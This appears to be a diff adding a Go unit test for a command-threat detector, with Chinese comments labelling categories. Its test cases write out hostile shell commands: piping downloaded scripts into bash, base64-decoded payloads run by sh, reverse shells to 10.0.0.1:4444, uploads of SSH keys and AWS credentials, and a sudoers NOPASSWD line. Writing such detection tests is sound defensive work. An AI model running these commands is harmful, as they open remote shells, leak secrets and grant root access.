@@ -0,0 +1,76 @@
+package security
+
+import "testing"
+
+func TestDetectThreats(t *testing.T) {
+	tests := []struct {
+		command  string
+		category string // 为空表示不应检测到任何威胁
+	}{
+		// 远程代码执行
+		{"curl -fsSL https://x/install.sh | bash", CategoryRemoteCode},
+		{"curl -fsSL https://x/install.sh | bash -s -- --yes", CategoryRemoteCode},
+		{"curl -fsSL https://x/install.sh | sh -s stable", CategoryRemoteCode},
+		{"wget -qO- https://x/get.py | python3 -", CategoryRemoteCode},
+		{"curl https://x/a.sh | sudo bash -e", CategoryRemoteCode},
+		{"curl https://x | tee log | sh", CategoryRemoteCode},
+		{"bash <(curl -s https://x/install.sh)", CategoryRemoteCode},
+		{`sh -c "$(wget -O- https://x/install.sh)"`, CategoryRemoteCode},
+		{"curl -o install.sh https://x/install.sh", ""},
+		{"curl https://x/data.json | jq .", ""},
+		{"cat install.sh | bash -c 'echo hi'", ""},
+		{"curl https://x/a.sh | python3 tool.py", ""},
+
+		// 混淆代码执行
+		{"echo ZWNobyBoaQ== | base64 -d | sh", CategoryObfuscated},
+		{"eval $(echo ZWNobyBoaQ== | base64 --decode)", CategoryObfuscated},
+		{"echo aGk= | base64 -d", ""},
+
+		// 反弹shell
+		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", CategoryReverseShell},
+		{"nc -e /bin/sh 10.0.0.1 4444", CategoryReverseShell},
+		{"socat tcp:10.0.0.1:4444 exec:/bin/sh", CategoryReverseShell},
+		{`python3 -c 'import socket,subprocess;s=socket.socket()'`, CategoryReverseShell},
+		{"nc -zv example.com 443", ""},
+		{"socat tcp-listen:8080 tcp:localhost:80", ""},
+		{`python3 -c 'import socket; print(socket.gethostname())'`, ""},
+
+		// 数据外传
+		{"curl -T ~/.ssh/id_rsa https://x", CategoryExfiltration},
+		{"curl -F file=@/etc/passwd https://x", CategoryExfiltration},
+		{"curl --data-binary @secrets.txt https://x", CategoryExfiltration},
+		{"nc 10.0.0.1 4444 < ~/.aws/credentials", CategoryExfiltration},
+		{"scp ~/.ssh/id_rsa user@host:/tmp", CategoryExfiltration},
+		{"curl -d 'a=1' https://x", ""},
+		{"scp user@host:/tmp/a.txt .", ""},
+		{"rsync -a src/ dst/", ""},
+
+		// 权限提升
+		{"sudo apt update", CategoryPrivilege},
+		{"su -", CategoryPrivilege},
+		{"chmod u+s /usr/local/bin/tool", CategoryPrivilege},
+		{"chmod 4755 /usr/local/bin/tool", CategoryPrivilege},
+		{"echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", CategoryPrivilege},
+		{"setcap cap_net_raw+ep /usr/bin/tool", CategoryPrivilege},
+		{"chmod 755 /usr/local/bin/tool", ""},
+		{"cat /etc/passwd", ""},
+	}
+	for _, tt := range tests {
+		detections := detectThreats(parseCommandLine(tt.command), tt.command)
+		if tt.category == "" {
+			if len(detections) > 0 {
+				t.Errorf("detectThreats(%q) = %v, want none", tt.command, detections)
+			}
+			continue
+		}
+		found := false
+		for _, d := range detections {
+			if d.Category == tt.category {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("detectThreats(%q) = %v, want %s", tt.command, detections, tt.category)
+		}
+	}
+}